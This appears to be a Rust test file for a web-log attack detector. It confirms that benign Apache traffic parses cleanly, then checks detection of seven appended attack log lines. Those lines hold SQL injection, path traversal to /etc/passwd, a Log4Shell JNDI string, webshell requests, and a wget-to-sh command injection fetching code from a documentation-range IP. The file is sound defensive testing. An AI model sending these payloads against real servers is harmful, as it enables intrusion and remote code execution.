//! The real 10,000-line Apache log: benign traffic gives no high-severity web-attack finding, every
//! line parses, and attacks added to a copy of it are found.

use cordon_core::Severity;
use cordon_timeline::detect::Config;

use crate::common::*;

fn apache() -> Vec<u8> {
    std::fs::read(logs_dir().join("elastic-apache_logs")).unwrap()
}

#[test]
fn benign_traffic_has_no_high_web_finding_and_every_line_parses() {
    let root = Root::new();
    root.write("/var/log/apache2/access.log", &apache(), MTIME);
    let run = run(&root, Config::new("web"));
    let rep = &run.reports[0];
    assert_eq!(rep.format, "access");
    assert_eq!(rep.lines, 10_000);
    assert_eq!(rep.parsed, 10_000, "unparsed: {}", rep.unparsed);
    let web: Vec<_> = run
        .findings
        .iter()
        .filter(|f| f.check.starts_with("web."))
        .collect();
    assert!(
        web.iter().all(|f| f.severity < Severity::High),
        "{:#?}",
        web.iter()
            .filter(|f| f.severity >= Severity::High)
            .collect::<Vec<_>>()
    );
    // Times are the log's own (with its offset), in order.
    assert_eq!(
        cordon_core::format_utc(run.events[0].time),
        "2015-05-17T10:05:03.000000000Z"
    );
}

#[test]
fn attacks_added_to_real_traffic_are_found() {
    let mut log = apache();
    let evil = [
        r#"203.0.113.9 - - [20/May/2015:21:00:00 +0000] "GET /item.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--%20 HTTP/1.1" 200 512 "-" "sqlmap/1.4""#,
        r#"203.0.113.9 - - [20/May/2015:21:00:01 +0000] "GET /download?file=../../../../etc/passwd HTTP/1.1" 200 1024 "-" "curl/7.1""#,
        r#"203.0.113.10 - - [20/May/2015:21:00:02 +0000] "GET / HTTP/1.1" 200 10 "-" "${jndi:ldap://203.0.113.10:1389/a}""#,
        r#"203.0.113.11 - - [20/May/2015:21:01:00 +0000] "POST /wp-content/uploads/upload.php HTTP/1.1" 200 20 "-" "Mozilla""#,
        r#"203.0.113.11 - - [20/May/2015:21:01:05 +0000] "GET /wp-content/uploads/2015/05/x.php?cmd=id HTTP/1.1" 200 30 "-" "Mozilla""#,
        r#"203.0.113.12 - - [20/May/2015:21:02:00 +0000] "GET /images/c99.php HTTP/1.1" 200 900 "-" "Mozilla""#,
        r#"203.0.113.13 - - [20/May/2015:21:03:00 +0000] "GET /cgi-bin/test.cgi?x=;wget%20http://203.0.113.13/k%20-O-|sh HTTP/1.1" 404 0 "-" "x""#,
    ];
    for l in evil {
        log.extend_from_slice(l.as_bytes());
        log.push(b'\n');
    }
    let root = Root::new();
    root.write("/var/log/apache2/access.log", &log, MTIME);
    let run = run(&root, Config::new("web"));
    let has = |check: &str, ip: &str| {
        checks(&run.findings, check)
            .iter()
            .any(|f| f.attrs.get("src_ip").and_then(|v| v.as_str()) == Some(ip))
    };
    assert!(has("web.sql_injection", "203.0.113.9"));
    assert!(has("web.path_traversal", "203.0.113.9"));
    assert!(has("web.log4shell", "203.0.113.10"));
    assert!(has("web.command_injection", "203.0.113.13"));
    let shell = checks(&run.findings, "web.webshell_request");
    assert_eq!(shell.len(), 1);
    assert_eq!(shell[0].severity, Severity::High);
    let upload = checks(&run.findings, "web.upload_then_script");
    assert!(
        upload
            .iter()
            .any(|f| f.severity == Severity::High && f.summary.contains("x.php")),
        "{upload:#?}"
    );
}
